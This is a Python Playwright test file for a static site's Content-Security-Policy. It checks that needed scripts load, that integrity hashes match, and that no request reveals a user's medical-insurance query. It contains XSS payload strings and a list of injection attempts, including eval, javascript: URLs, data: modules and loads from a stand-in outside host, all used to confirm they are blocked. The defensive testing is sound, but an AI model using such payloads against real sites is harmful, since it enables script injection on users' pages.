"""The policy in the built pages: nothing that they need is blocked, what they must not do is, and no request tells what
somebody asked."""

from __future__ import annotations

import base64
import hashlib
from pathlib import Path
from urllib.parse import quote, unquote

import pytest
from playwright.sync_api import Browser, Page, Request, expect

from builder.html_tags import Html

SITE = Path(__file__).parents[2] / "site"
PAGES = sorted(path.relative_to(SITE).as_posix() for path in SITE.rglob("*.html"))
# One page of each kind: of each folder the index and the first other one.
KINDS = sorted({name.split("/")[0] + str(name.count("/")): name for name in reversed(PAGES)}.values())
SLIM = "embed/check/index.html"
START = 60_000
QUESTION = "on=2026-11-22&donor_region=guangxi&relative=岳父&item=血压计"
HOSTILE = "<img src=x onerror=hacked=1>\"'><script>hacked=1</script>"
WATCH = "globalThis.blocked = []; addEventListener('securitypolicyviolation', (event) => blocked.push(event.violatedDirective + ' ' + event.blockedURI))"


@pytest.fixture
def watched(page: Page) -> Page:
    """A page that keeps a list of what its policy blocked."""
    page.add_init_script(WATCH)
    return page


def blocked(page: Page) -> list[str]:
    found: list[str] = page.evaluate("blocked")
    return found


@pytest.mark.parametrize("name", PAGES)
def test_every_page_has_its_policy_and_its_sums(name: str) -> None:
    page = Html((SITE / name).read_text(encoding="utf-8"))
    [policy] = [tag.attributes["content"] or "" for tag in page.tags if tag.attributes.get("http-equiv") == "Content-Security-Policy"]
    assert "unsafe-inline" not in policy
    assert "'unsafe-eval'" not in policy
    for tag in page.tags:
        if tag.name == "script" and (source := tag.attributes.get("src")):
            file = SITE / source.lstrip("/") if name == "404.html" else (SITE / name).parent / source
            expected = f"sha384-{base64.b64encode(hashlib.sha384(file.read_bytes()).digest()).decode()}"
            assert tag.attributes.get("integrity") == expected, source


@pytest.mark.parametrize("name", KINDS)
def test_nothing_that_a_page_needs_is_blocked(watched: Page, name: str) -> None:
    watched.goto(f"/{name}")
    if name != SLIM:  # it has neither a frame nor switches of its own
        watched.locator(".care-switch").click()
        watched.locator("label[for=__palette_1]:visible, label[for=__palette_0]:visible").first.click()
    watched.wait_for_load_state("networkidle")
    assert blocked(watched) == []


def test_search_and_answers_work_under_the_policy(watched: Page) -> None:
    watched.goto("/?q=居民医保")
    expect(watched.locator(".md-search-result__list mark").first).to_be_attached(timeout=START)
    assert blocked(watched) == []
    watched.goto(f"/check/#{QUESTION}")
    watched.locator("#answer[data-engine=python]").wait_for(timeout=START)
    assert blocked(watched) == []


ATTACKS = [
    "document.body.append(Object.assign(document.createElement('script'), {textContent: 'hacked=1'}))",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=hacked=1>')",
    "document.querySelector('article').innerHTML = '<b onclick=hacked=1>x</b>'; document.querySelector('article b')?.click()",
    "eval('hacked=1')",
    "setTimeout('hacked=1')",
    "document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: '<script>parent.hacked=1</script>'}))",
    "location.href = 'javascript:hacked=1'",
    "import('data:text/javascript,globalThis.hacked=1')",
    "new Worker('data:text/javascript,postMessage(1)').onmessage = () => { hacked = 1 }",
    "new Worker('https://elsewhere.invalid/x.js')",
    "document.body.append(Object.assign(document.createElement('script'), {src: 'https://elsewhere.invalid/x.js'}))",
    "fetch('https://elsewhere.invalid/').catch(() => {})",
    "document.body.append(Object.assign(document.createElement('img'), {src: 'https://elsewhere.invalid/x.png'}))",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_page_must_not_do_is_blocked(browser: Browser, site: str, attack: str) -> None:
    page = browser.new_page(base_url=site)
    page.goto("/about/")
    page.evaluate(f"() => {{ setTimeout(() => {{ {attack} }}) }}")  # later: what the debugger runs itself may do more
    page.wait_for_timeout(300)
    assert page.evaluate("typeof hacked") == "undefined"
    assert page.locator("#__search").count() == 1  # the page still stands
    page.close()


def test_a_script_that_was_changed_on_its_way_does_not_run(page: Page, site: str) -> None:
    page.route("**/care.js", lambda route: route.fulfill(content_type="text/javascript", body="hacked = 1"))
    page.goto("/about/")
    assert page.evaluate("typeof hacked") == "undefined"


def test_a_module_that_was_changed_on_its_way_does_not_run(page: Page) -> None:
    page.route("**/question.js", lambda route: route.fulfill(content_type="text/javascript", body="globalThis.hacked = 1"))
    page.goto("/check/")
    page.wait_for_load_state("networkidle")
    assert page.evaluate("typeof hacked") == "undefined"


def test_hostile_words_in_a_link_run_nothing(watched: Page) -> None:
    watched.goto(f"/check/#donor_region=guangxi&relative={quote(HOSTILE)}&item=x")
    for key in ("relative", "item", "donor_pool", "on", "route", "text"):
        watched.evaluate("(hash) => { location.hash = hash }", f"donor_region=guangxi&{key}={quote(HOSTILE)}")
        expect(watched.locator("#answer")).to_contain_text("hacked", timeout=START)
        watched.locator("#answer[data-engine=python]:not([aria-busy])").wait_for(timeout=START)
        assert watched.locator("#answer :is(script, img, iframe)").count() == 0
    watched.evaluate("(hash) => { location.hash = hash }", f"{quote(HOSTILE)}=1")
    expect(watched.locator("#unknown-keys")).to_contain_text(HOSTILE)
    for path in (f"/documents/#region={quote(HOSTILE)}", f"/?q={quote(HOSTILE)}"):
        assert blocked(watched) == []  # it did not even come to that
        assert watched.evaluate("typeof hacked") == "undefined"
        watched.goto(path)
        watched.wait_for_load_state("networkidle")
    assert blocked(watched) == []
    assert watched.evaluate("typeof hacked") == "undefined"


def test_no_request_tells_what_was_asked(page: Page) -> None:
    requests: list[Request] = []
    page.context.on("request", lambda request: requests.append(request))
    words = ["岳父", "血压计", "guangxi", "邻居老王", "2026-11-21"]
    page.goto("/")
    page.locator("#text").fill("能给岳父买血压计吗，邻居老王说行")
    page.locator("#text").press("Enter")
    page.locator("#answer[data-engine=python]:not([aria-busy])").wait_for(timeout=START)
    page.locator("[name=donor_region]").select_option("guangxi")
    page.locator("[name=on]").fill("2026-11-21")
    page.locator("[name=on]").press("Enter")
    page.locator("#answer[data-engine=python]:not([aria-busy])").wait_for(timeout=START)
    page.get_by_role("button", name="复制链接").last.click()
    assert len(requests) > 10
    for request in requests:
        told = unquote(request.url.split("#")[0]) + (request.post_data or "") + unquote(str(request.all_headers()))
        assert request.method == "GET"
        assert [word for word in words if word in told] == [], request.url
    assert page.context.cookies() == []
